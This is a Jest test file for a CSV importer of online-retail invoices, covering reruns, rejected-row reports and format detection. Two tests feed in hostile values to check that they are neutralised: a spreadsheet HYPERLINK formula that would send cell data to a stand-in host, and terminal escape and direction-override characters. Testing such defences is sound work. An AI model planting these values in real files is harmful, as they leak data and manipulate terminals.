import { parse } from 'csv-parse/sync';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
  WriteStream,
  statSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { BulkAnswer } from '../bulk';
import type { Door } from '../door';
import { Failure } from '../failure';
import { openTerminal } from '../terminal';
import { countRows } from './count-rows';
import { importFile, rehearse, RejectsUnwritten } from './import-file';
import { onlineRetail } from './online-retail';

const folder = mkdtempSync(join(tmpdir(), 'import-'));
afterAll(() => rmSync(folder, { recursive: true }));
const heading = 'Invoice,StockCode,Description,Quantity,InvoiceDate,Price,Customer ID,Country\n';
const row = (invoice: string, customer: string, quantity = '6', sku = 'A'): string =>
  `${invoice},${sku},THING,${quantity},2011-06-01 08:26:00,2.55,${customer},France\n`;

let files = 0;
function write(text: string | Buffer, ending = 'csv'): string {
  const file = join(folder, `${files++}.${ending}`);
  writeFileSync(file, text);
  return file;
}

interface Line {
  readonly id: string;
  readonly command: string;
  readonly data: Readonly<Record<string, unknown>>;
}
/** A door behind which a log of message ids stands; `refuse` answers instead where it says something. */
function doorOf(
  known: Map<string, BulkAnswer>,
  refuse: (line: Line) => Partial<BulkAnswer> | undefined = () => undefined,
) {
  const door: Door = {
    ask: () => Promise.resolve({ status: 200, headers: {}, body: { items: [] } }),
    isOwner: true,
    lines: () => {
      throw new Error('not asked for');
    },
    bulk: async function* (lines, { dryRun = false } = {}) {
      for await (const text of lines) {
        const line = JSON.parse(text) as Line;
        const refused = refuse(line);
        const first = known.get(line.id);
        const receipt = { position: `log-0-${known.size + 1}`, events: [{}] };
        const answer = refused
          ? { id: line.id, status: 409, ...refused }
          : first
            ? { ...first, replayed: true }
            : { id: line.id, status: 201, receipt, replayed: false };
        if (!refused && !first && !dryRun) known.set(line.id, answer);
        yield JSON.stringify(answer);
      }
    },
    close: () => Promise.resolve(),
  };
  return door;
}
const quiet = { isTTY: false, write: () => true };
const importing = (file: string) => ({
  mapping: onlineRetail,
  file,
  naming: (kind: string, key: string) => `${kind}-${key}`,
  terminal: openTerminal('en', true, quiet, quiet),
  elapsed: () => 0,
});

it('counts rows, documents, customers and events, and a second run adds nothing', async () => {
  const file = write(gzipSync(heading + row('1', '7') + row('1', '7') + row('2', '') + row('C3', '7', '-1')), 'csv.gz');
  const door = doorOf(new Map());
  const result = { rows: 4, rejected: 0, customers: 1, orders: 3 };
  expect(await importFile(door, importing(file))).toEqual({
    ...result,
    accepted: 4,
    unchanged: 0,
    events: 3,
    position: 'log-0-3',
  });
  expect(await importFile(door, importing(file))).toEqual({
    ...result,
    accepted: 0,
    unchanged: 4,
    events: 0,
    position: 'log-0-3',
  });
  expect(existsSync(`${file}.rejected.csv`)).toBe(false);
});

it('goes on after a kill: what is in counts as unchanged', async () => {
  const file = write(heading + row('1', '7') + row('2', '7') + row('3', '7'));
  const known = new Map<string, BulkAnswer>();
  const dying = doorOf(known, ({ data }) => {
    if (data['number'] === '2') throw new Failure({ zh: '断了', en: 'gone' });
    return undefined;
  });
  await expect(importFile(dying, importing(file))).rejects.toThrow('gone');
  expect(await importFile(doorOf(known), importing(file))).toMatchObject({
    accepted: 2,
    unchanged: 1,
    orders: 3,
    events: 2,
  });
});

it('names its columns of the result in the order that is fixed', async () => {
  const result = await rehearse(doorOf(new Map()), importing(write(heading + row('1', '7'))));
  expect(Object.keys(result)).toEqual([
    'rows',
    'accepted',
    'rejected',
    'unchanged',
    'customers',
    'orders',
    'events',
    'position',
  ]);
});

it('rehearses', async () => {
  const file = write(heading + row('1', '7') + row('2', '8'));
  expect(await rehearse(doorOf(new Map()), importing(file))).toMatchObject({
    rows: 2,
    accepted: 2,
    customers: 2,
    orders: 2,
    events: 0,
  });
});

it('writes rejected rows with line, field, value and reason beside the input, and removes the file when they are in', async () => {
  const bad = row('1', '7', 'six');
  const file = write(heading + row('1', '7') + bad + row('2', '8'));
  expect(await importFile(doorOf(new Map()), importing(file))).toMatchObject({ accepted: 1, rejected: 2, orders: 1 });
  expect(statSync(`${file}.rejected.csv`).mode & 0o777).toBe(0o600); // it holds what customers' rows held
  expect(readFileSync(`${file}.rejected.csv`, 'utf8')).toBe(
    '\ufeffline,field,value,reason\r\n2,Invoice,1,another row of the invoice was rejected\r\n3,Quantity,six,is no whole number\r\n',
  );
  writeFileSync(file, heading + row('1', '7'));
  await importFile(doorOf(new Map()), importing(file));
  expect(existsSync(`${file}.rejected.csv`)).toBe(false);
});

it('writes rejected rows in the order of their lines, whoever found their faults', async () => {
  const file = write(heading + row('1', '7') + row('2', '8', 'six') + row('3', '9') + row('4', '9', 'six'));
  const door = doorOf(new Map(), () => ({ problem: { status: 409, detail: 'no' } }));
  await importFile(door, importing(file));
  const lines = readFileSync(`${file}.rejected.csv`, 'utf8').split('\r\n').slice(1, 5);
  expect(lines.map((line) => line.split(',')[0])).toEqual(['2', '3', '4', '5']);
});

it('says in the form of the file that a time is too early', async () => {
  const file = write(heading + row('1', '7').replace('2011', '0001'));
  await importFile(doorOf(new Map()), importing(file));
  expect(readFileSync(`${file}.rejected.csv`, 'utf8')).toContain(
    'is no time from 1900 on in the form YYYY-MM-DD HH:mm:ss',
  );
});

it('writes no rejected value as a formula that a spreadsheet would run, and alters none that is a number', async () => {
  const formula = '"=HYPERLINK(""http://x.invalid/?""&A1,""open"")"';
  const file = write(heading + row('1', '7', formula) + row('2', '7', '-1.5'));
  await importFile(doorOf(new Map()), importing(file));
  const records = parse(readFileSync(`${file}.rejected.csv`, 'utf8'), { bom: true }) as readonly string[][];
  expect(records.map(([, , value]) => value)).toEqual(['value', `'=HYPERLINK("http://x.invalid/?"&A1,"open")`, '-1.5']);
});

it('writes no control character into the rejected rows that a terminal or a table program would obey', async () => {
  const file = write(heading + row('1', '7', '\u001b]0;own\u0007six\u202e'));
  await importFile(doorOf(new Map()), importing(file));
  expect(readFileSync(`${file}.rejected.csv`, 'utf8')).toContain('2,Quantity,␛]0;own␇six<U+202E>,is no whole number');
});

it('says which row the server means by a line of a document', async () => {
  const file = write(heading + row('1', '7', '-1', 'X') + row('1', '7', '6', 'Y') + row('1', '7', '6', 'Z'));
  const errors = [
    { pointer: '/lines/1/sku', detail: 'no such sku' }, // of rows 3 and 4 the second
    { pointer: '/adjustments/0/sku', detail: 'not that either' },
  ];
  const door = doorOf(new Map(), ({ command }) =>
    command === 'sales.PlaceOrder'
      ? { status: 400, problem: { status: 400, detail: 'two faults', errors } }
      : undefined,
  );
  expect(await importFile(door, importing(file))).toMatchObject({ accepted: 0, rejected: 3, orders: 0 });
  const lines = readFileSync(`${file}.rejected.csv`, 'utf8').split('\r\n');
  expect(lines.slice(1, 4).sort()).toEqual([
    '2,StockCode,X,not that either',
    '3,,1,no such sku; not that either',
    '4,StockCode,Z,no such sku',
  ]);
});

it.each(['command/key-reused', 'command/exists'])('says of a document that is in with other rows: %s', async (code) => {
  const door = doorOf(new Map(), ({ command }) =>
    command === 'sales.PlaceOrder' ? { problem: { status: 409, code } } : undefined,
  );
  const file = write(heading + row('1', '7') + row('1', '7', '6', 'B'));
  const run = importing(file);
  expect(await importFile(door, run)).toMatchObject({ accepted: 0, rejected: 2, orders: 0 });
  const said = 'this document is in already, with other rows or content: nothing was changed';
  const lines = readFileSync(`${file}.rejected.csv`, 'utf8').split('\r\n');
  expect(lines.slice(1, 3)).toEqual([2, 3].map((line) => expect.stringContaining(`${line},,1,"${said}`) as unknown));
  await importFile(door, { ...run, terminal: openTerminal('zh', true, quiet, quiet) });
  expect(readFileSync(`${file}.rejected.csv`, 'utf8')).toContain('2,,1,该单据此前已以不同的行或内容导入');
});

it('stops when the server cannot go on', async () => {
  const door = doorOf(new Map(), () => ({ status: 503, problem: { status: 503, detail: 'the log has stopped' } }));
  await expect(importFile(door, importing(write(heading + row('1', '7'))))).rejects.toThrow('the log has stopped');
});

it('takes an invoice with all its rows, however far apart they lie', async () => {
  const others = Array.from({ length: 100 }, (_, i) => row(`x${i}`, '7')).join('');
  const file = write(heading + row('1', '7') + others + row('1', '7'));
  const lines: number[] = [];
  const door = doorOf(new Map(), ({ data }) => {
    if (data['number'] === '1') lines.push((data['lines'] as readonly unknown[]).length);
    return undefined;
  });
  expect(await importFile(door, importing(file))).toMatchObject({ rows: 102, accepted: 102, orders: 101 });
  expect(lines).toEqual([2]);
});

it('refuses a file whose invoices are so scattered that they would fill the memory, before anything is sent', async () => {
  const scattered = ['1', '2', '3', '1', '2', '3'].map((invoice) => row(invoice, '7')).join('');
  const file = write(heading + scattered + row('4', '7'));
  await expect(countRows(file, onlineRetail, 5)).rejects.toThrow(/Sort it by/);
  expect([...(await countRows(file, onlineRetail, 6))]).toEqual([
    ['1', 2],
    ['2', 2],
    ['3', 2],
    ['4', 1],
  ]);
});

it('tells of a broken end before anything is sent', async () => {
  const asked = jest.fn(() => undefined);
  const file = write(`${heading}${row('1', '7').repeat(50)}"never closed`);
  await expect(importFile(doorOf(new Map(), asked), importing(file))).rejects.toThrow(/line \{line\}/);
  expect(asked).not.toHaveBeenCalled();
});

it('leaves the rejected rows of an import alone when it rehearses, and when it breaks off', async () => {
  const file = write(heading + row('1', '7', 'six') + row('2', '7'));
  await importFile(doorOf(new Map()), importing(file));
  const rejected = readFileSync(`${file}.rejected.csv`, 'utf8');
  const gone = doorOf(new Map(), () => ({ status: 503, problem: { status: 503, detail: 'gone' } }));
  await expect(importFile(gone, importing(file))).rejects.toThrow('gone');
  expect(await rehearse(doorOf(new Map()), importing(file))).toMatchObject({ accepted: 1, rejected: 1 });
  expect(readFileSync(`${file}.dry-run.rejected.csv`, 'utf8')).toBe(rejected);
  writeFileSync(file, heading + row('1', '7'));
  await rehearse(doorOf(new Map()), importing(file));
  expect(existsSync(`${file}.dry-run.rejected.csv`)).toBe(false);
  expect(readFileSync(`${file}.rejected.csv`, 'utf8')).toBe(rejected);
  expect(existsSync(`${file}.rejected.csv.unfinished`)).toBe(false);
});

describe('where the rejected rows cannot be written', () => {
  const faulty = () => write(heading + row('1', '7', 'six') + row('2', '7'));
  it.each([
    ['at their place', (file: string) => `${file}.rejected.csv`],
    ['beside it', (file: string) => `${file}.rejected.csv.unfinished`],
  ])('%s, all else is in, and the counts are known', async (_where, taken) => {
    const file = faulty();
    mkdirSync(join(taken(file), 'in-the-way'), { recursive: true });
    const known = new Map<string, BulkAnswer>();
    const error: unknown = await importFile(doorOf(known), importing(file)).catch((thrown: unknown) => thrown);
    if (!(error instanceof RejectsUnwritten)) throw error;
    expect(error.result).toMatchObject({ rows: 2, accepted: 1, rejected: 1, events: 1 });
    expect(known.size).toBe(1);
    const said = (language: 'zh' | 'en') =>
      openTerminal(language, true, quiet, quiet).say(error.text, error.details).replaceAll(taken(file), 'FILE');
    expect(said('en')).toBe(
      'The rejected rows (1) and their reasons could not be written: cannot use FILE: a folder is where a file should be; move the folder away, or restore the file from your backup. Run the same command again for them: what is in is not brought in twice',
    );
    expect(said('zh')).toBe(
      '未能写出被拒绝的行及原因（共 1 行）。无法使用 FILE：此处应为文件，却是文件夹；请将该文件夹移走，或从备份恢复该文件。再次运行同一命令即可得到它们，已导入的内容不会重复写入',
    );
    expect(statSync(taken(file)).isDirectory()).toBe(true);
    if (!taken(file).endsWith('.unfinished')) expect(existsSync(`${file}.rejected.csv.unfinished`)).toBe(false);
  });
  it('leaves nothing half written, and what an earlier run wrote as it was', async () => {
    const file = faulty();
    await importFile(doorOf(new Map()), importing(file));
    const earlier = readFileSync(`${file}.rejected.csv`, 'utf8');
    const full = Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
    const { prototype } = WriteStream as { readonly prototype: Required<WriteStream> };
    jest.spyOn(prototype, '_write').mockImplementation((_1, _2, done) => done(full));
    jest.spyOn(prototype, '_writev').mockImplementation((_, done) => done(full));
    const error: unknown = await importFile(doorOf(new Map()), importing(file)).catch((thrown: unknown) => thrown);
    jest.restoreAllMocks();
    expect(error).toMatchObject({ details: { why: { en: expect.stringContaining('the disk is full') as string } } });
    expect(existsSync(`${file}.rejected.csv.unfinished`)).toBe(false);
    expect(readFileSync(`${file}.rejected.csv`, 'utf8')).toBe(earlier);
  });
});

const good = heading + row('1', '7');
const utf32 = (text: string): Buffer => Buffer.from(Uint32Array.from(text, (each) => each.codePointAt(0) ?? 0).buffer);
const utf16 = (text: string): Buffer => Buffer.from(text, 'utf16le');
it.each([
  ['a file that is not there', () => join(folder, 'none.csv'), /no file/],
  ['an empty file', () => write(''), /empty/],
  [
    'a heading that lacks columns',
    () => write('a,b\n1,2\n'),
    /lacks InvoiceNo, StockCode.*It needs InvoiceNo,StockCode/,
  ],
  ['a column that is there twice', () => write(good.replace('Price', 'UnitPrice,Price')), /Price more than once/],
  ['semicolons', () => write(good.replaceAll(',', ';')), /separated by semicolons.*delimiter=';'/],
  ['tabs', () => write(good.replaceAll(',', '\t')), /separated by tabs.*delimiter='\\t'/],
  [
    'GB18030',
    () => write(Buffer.from([...Buffer.from(good), 0xd6, 0xd0, 0xb9, 0xfa, 0x0a])),
    /iconv -f GB18030 -t UTF-8 </,
  ],
  [
    'Latin-1',
    () => write(Buffer.from([...Buffer.from(good), 0x4d, 0xfc, 0x6c, 0x6c, 0x0a])),
    /Latin-1.*iconv -f WINDOWS-1252/,
  ],
  ['packed Latin-1', () => write(gzipSync(Buffer.from([...Buffer.from(good), 0xe9, 0x0a]))), /gunzip -c '.*' \| iconv/],
  ['UTF-16 without its mark', () => write(utf16(good)), /UTF-16 without its mark.*iconv -f UTF-16LE/],
  ['UTF-32', () => write(utf32(good)), /UTF-32.*iconv -f UTF-32LE/],
  ['UTF-32 with its mark', () => write(utf32(`\ufeff${good}`)), /UTF-32.*iconv -f UTF-32LE/],
  ['a PDF', () => write('%PDF-1.7\n'), /is a PDF/],
  [
    'line ends of two kinds',
    () => write(`${good}${row('2', '7').replace('\n', '\r')}${row('3', '7')}`),
    /line 3 .*both with LF and with CR/,
  ],
  ['line ends of old Macs', () => write(good.replaceAll('\n', '\r')), /CR alone.*tr '\\r' '\\n'/],
  [
    'a workbook',
    () => write(Buffer.from('PK\u0003\u0004..[Content_Types].xml', 'latin1')),
    /Excel workbook \(xlsx\).*read_excel/,
  ],
  ['an old workbook', () => write(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1])), /old Excel workbook/],
  ['another archive', () => write(Buffer.from('PK\u0003\u0004..a.csv', 'latin1')), /zip archive/],
  ['what was packed twice', () => write(gzipSync(gzipSync(good))), /packed twice/],
  ['a quote that is never closed', () => write(`${heading}"1,2\n`), /quote opened on line 2/],
  ['a character that is cut off', () => write(Buffer.from([...Buffer.from(good), 0xe4, 0xb8])), /cut off at its end/],
  ['a packed file that is cut off', () => write(gzipSync(good).subarray(0, 40), 'csv.gz'), /cut off or damaged/],
])('says what is wrong with %s, and what to do', async (_what, file, words) => {
  const said = { zh: '', en: '' };
  const path = file();
  const error = await rehearse(doorOf(new Map()), importing(path)).catch((thrown: unknown) => thrown);
  if (!(error instanceof Failure)) throw error;
  for (const language of ['zh', 'en'] as const)
    said[language] = openTerminal(language, true, quiet, quiet).say(error.text, error.details);
  expect(said.en).toMatch(words);
  expect(said.zh).toMatch(/\p{Script=Han}/u);
});

it.each([
  ['packed without its ending', () => write(gzipSync(good), 'csv')],
  ['with an ending in capitals', () => write(gzipSync(good), 'CSV.GZ')],
  ['not packed, whatever its ending says', () => write(good, 'csv.gz')],
  ['in UTF-16 with its mark', () => write(utf16(`\ufeff${good}`))],
  ['with the mark of UTF-8 and CRLF', () => write(`\ufeff${good.replaceAll('\n', '\r\n')}`)],
  [
    'with the headings of UCI',
    () => write(good.replace('Invoice,', 'InvoiceNo,').replace('Price,Customer ID', 'UnitPrice,CustomerID')),
  ],
  [
    'with headings in another case and form',
    () => write(good.replace(/.*\n/, (line) => line.toUpperCase().replace(' ', '_'))),
  ],
  ['with empty columns behind', () => write(good.replaceAll('\n', ',,\n'))],
  [
    'with columns in another order, and more of them',
    () =>
      write(
        'Country,x,Customer ID,Price,InvoiceDate,Quantity,Description,StockCode,Invoice\nFrance,?,7,2.55,2011-06-01 08:26:00,6,THING,A,1\n',
      ),
  ],
])('takes a file %s', async (_what, file) => {
  const placed: unknown[] = [];
  const door = doorOf(new Map(), ({ data }) => {
    placed.push(data);
    return undefined;
  });
  expect(await importFile(door, importing(file()))).toMatchObject({ rows: 1, accepted: 1, rejected: 0, customers: 1 });
  const lines = [{ sku: 'A', name: 'THING', quantity: 6, unitPrice: '2.55' }];
  expect(placed).toMatchObject([{ number: '1', lines, occurredAt: '2011-06-01T07:26:00.000Z' }]);
});

it('says that the same command goes on only where something is in', async () => {
  const said: string[] = [];
  const terminal = openTerminal('en', true, quiet, { isTTY: false, write: (text: string) => said.push(text) > 0 });
  const goneAfter = (answers: number) => {
    let answered = 0;
    return doorOf(new Map(), () => (answered++ < answers ? undefined : { status: 503, problem: { status: 503 } }));
  };
  const file = write(good + row('2', '7'));
  for (const answers of [0, 1])
    await expect(importFile(goneAfter(answers), { ...importing(file), terminal })).rejects.toThrow();
  expect(said.filter((text) => text.includes('run again'))).toHaveLength(1);
});

it('says where and why, when a document cannot be made of its rows', async () => {
  const mapping = {
    ...onlineRetail,
    map: () => {
      throw new RangeError('thought of by nobody');
    },
  };
  const file = write(heading + row('1', '7'));
  const error: unknown = await importFile(doorOf(new Map()), { ...importing(file), mapping }).catch((e: unknown) => e);
  const { text, details } = error as Failure;
  expect(openTerminal('en', true, quiet, quiet).say(text, details)).toBe(
    `${file}: line 2 (1) cannot be made a document: RangeError: thought of by nobody`,
  );
});
